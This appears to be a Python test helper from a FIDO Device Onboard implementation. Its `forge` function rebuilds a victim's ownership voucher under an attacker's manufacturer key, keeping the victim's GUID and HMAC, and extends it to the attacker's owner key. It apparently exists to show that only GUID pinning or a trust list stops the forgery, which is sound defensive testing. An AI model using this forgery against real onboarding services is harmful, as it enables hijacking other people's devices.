"""The takeover attack on a rendezvous: a voucher forged with a victim's GUID.

The attacker copies the victim voucher's header (GUID, RendezvousInfo, DeviceInfo,
device certificate chain and its hash, the HMAC) but puts their own manufacturer key in
it, and extends it to their own owner key. The result verifies as a voucher (the
rendezvous cannot check the HMAC without the device's secret), so only the pin of the
GUID (``rendezvous/pins.py``) or a trust list tells it apart.
"""

from __future__ import annotations

from fdo.crypto import PrivateKeyT, PublicKey
from fdo.voucher import OVHeader, OwnershipVoucher


def forge(
    victim: OwnershipVoucher, manufacturer_key: PrivateKeyT, owner_key: PrivateKeyT
) -> OwnershipVoucher:
    """The victim's voucher re-made under ``manufacturer_key``, extended to ``owner_key``."""
    h = victim.header
    header = OVHeader.build(
        guid=h.guid,
        rv_info=h.rv_info,
        device_info=h.device_info,
        public_key=PublicKey.from_key(manufacturer_key.public_key()),
        cert_chain_hash=h.cert_chain_hash,
        prot_ver=h.prot_ver,
    )
    forged = OwnershipVoucher.create(header=header, hmac=victim.hmac, cert_chain=victim.cert_chain)
    return forged.extend(manufacturer_key, PublicKey.from_key(owner_key.public_key()))
